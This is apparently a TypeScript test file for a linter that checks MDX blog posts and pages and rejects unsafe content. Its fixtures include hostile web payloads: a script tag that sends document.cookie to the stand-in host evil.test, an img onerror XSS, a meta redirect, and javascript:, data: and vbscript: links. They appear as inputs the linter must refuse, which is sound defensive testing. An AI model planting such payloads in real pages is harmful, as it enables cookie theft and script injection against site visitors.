import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ContentFile } from './check';
import { printedFindings } from './check-fixture';


/** An entry whose commentary starts on line 9 of its file, after a blank line. */
function entry(body: string): ContentFile {
  const front = ['title: Paxos', 'url: https://example.com/paxos', 'date: 2026-03-01', 'description: One sentence.', 'tags: [consensus]'];
  return { file: 'content/posts/paxos.mdx', source: `---\n${front.join('\n')}\n---\n\n${body}` };
}

/** What `npm run check` prints for these files. */
const check = (posts: ContentFile[], pages: ContentFile[] = []) => printedFindings(posts, { pages, publicPaths: ['/favicon.ico'] });

/** What `npm run check` prints for an entry with this commentary. */
const findings = (body: string) => check([entry(body)]);

describe('the commentary check', () => {
  it('accepts Markdown, escaped braces, code, and prose with a bare <', () => {
    assert.deepEqual(
      findings(
        [
          'Read **this** and [that](https://other.example/a), or [mail](mailto:me@example.com) or [here](/tags) or [up](#top).',
          '',
          'Latency fell from 5ms to <2ms, and a < b holds; a set is written \\{1, 2\\}.',
          '',
          '`{code}` and `<script>` in code are text:',
          '',
          '```js',
          'const x = { a: 1 }; // <b>',
          '```',
          '',
          '![diagram](/favicon.ico)',
        ].join('\n'),
      ),
      [],
    );
  });

  it('refuses an expression, naming the line and how to write a literal brace', () => {
    assert.deepEqual(findings('Fine line.\n\nThe home is {process.env.HOME}.\n'), [
      'content/posts/paxos.mdx:11 commentary: `{` starts an expression, and expressions are not run: write `\\{` for a literal brace',
    ]);
  });

  it('refuses import and export lines', () => {
    const lines = findings("import pkg from '../../package.json'\n\nexport const x = 1\n");
    assert.equal(lines.length, 2);
    assert.match(lines[0], /^content\/posts\/paxos\.mdx:9 commentary: `import` and `export` are not run/);
    assert.match(lines[1], /^content\/posts\/paxos\.mdx:11 commentary: `import` and `export` are not run/);
  });

  it('refuses raw HTML, components and HTML comments, each on its own line', () => {
    const lines = findings(
      [
        '<script>fetch("https://evil.test/?" + document.cookie)</script>',
        '',
        '<meta httpEquiv="refresh" content="0; url=https://evil.test" />',
        '',
        'Inline <img src=x onerror=alert(1)> here.',
        '',
        '<Chart data={[1, 2]} />',
        '',
        '<iframe src="https://evil.test"></iframe>',
        '',
        '<!-- a note -->',
      ].join('\n'),
    );
    assert.deepEqual(
      lines.map((line) => /^\S+:(\d+) commentary: (\S+ \S+ \S+ \S+)/.exec(line)!.slice(1).join(' ')),
      [
        '9 raw HTML <script> is',
        '11 raw HTML <meta> is',
        '13 raw HTML <img> is',
        '15 <Chart> is a component,',
        '17 raw HTML <iframe> is',
        '19 an HTML comment is',
      ],
    );
    assert.match(lines[0], /write `\\<` for a literal </);
  });

  it('refuses links and images whose scheme would be dropped', () => {
    const lines = findings(
      [
        '[a](javascript:alert(1))',
        '',
        '[b](JavaScript:alert(1))',
        '',
        '[c](data:text/html;base64,PHNjcmlwdD4=)',
        '',
        '![d](data:image/svg+xml;base64,PHN2Zz4=)',
        '',
        '[e][ref]',
        '',
        '[ref]: vbscript:msgbox',
        '',
        '[f](ftp://example.com/file)',
      ].join('\n'),
    );
    assert.deepEqual(
      lines.map((line) => /^\S+:(\d+) commentary: (.*?) is not allowed/.exec(line)!.slice(1).join(' ')),
      [
        '9 a link to a javascript: URL',
        '11 a link to a javascript: URL',
        '13 a link to a data: URL',
        '15 an image from a data: URL',
        '19 a link to a vbscript: URL',
        '21 a link to a ftp: URL',
      ],
    );
  });

  it('refuses images from other sites, saying how to serve one from public/', () => {
    const lines = findings(['![a](https://example.com/a.png)', '', '![b](//cdn.example/b.png)', '', '![c](c.png)', '', '![d][pixel]', '', '[pixel]: https://tracker.example/p.gif'].join('\n'));
    assert.deepEqual(
      lines.map((line) => /^\S+:(\d+) commentary: (an image from .*?) is not allowed: .* save the file as public\/images\/<name> and write !\[what it shows\]\(\/images\/<name>\)$/.exec(line)?.slice(1).join(' ') ?? line),
      ['9 an image from a https: URL', '11 an image from another site', '13 an image from the relative path c.png', '15 an image from a https: URL'],
    );
    assert.deepEqual(findings('![A diagram](/favicon.ico)\n'), []);
  });

  it('refuses control characters other than tab and line breaks', () => {
    assert.deepEqual(findings('Tab\tis fine.\r\nBell \u0007 is not.\n'), [
      'content/posts/paxos.mdx:10 commentary: holds the control character U+0007, which no reader can see: delete it',
    ]);
  });

  it('refuses invisible direction overrides and zero-width spaces', () => {
    assert.deepEqual(findings('Fine.\nAn \u202Eoverride and a zero\u200Bwidth space.\n'), [
      'content/posts/paxos.mdx:10 commentary: holds the invisible character U+202E, which changes how the text reads without showing: delete it',
    ]);
  });

  it('checks pages as it checks entries', () => {
    const page = { file: 'content/pages/about.mdx', source: '---\ntitle: About\ndescription: What this is.\n---\n<script>x</script>\n' };
    assert.match(check([], [page]).join('\n'), /^content\/pages\/about\.mdx:5 commentary: raw HTML <script>/);
  });
});
